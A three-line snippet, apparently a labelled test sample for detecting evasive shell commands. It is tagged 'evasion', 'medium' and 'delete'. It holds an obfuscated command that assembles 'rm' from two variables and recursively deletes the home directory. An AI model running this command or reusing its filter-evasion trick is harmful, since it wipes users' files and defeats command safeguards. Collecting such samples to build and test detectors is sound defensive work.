# evasion: rm named by two variables
# grade: medium; does: delete
r=r; m=m; $r$m -rf ~/
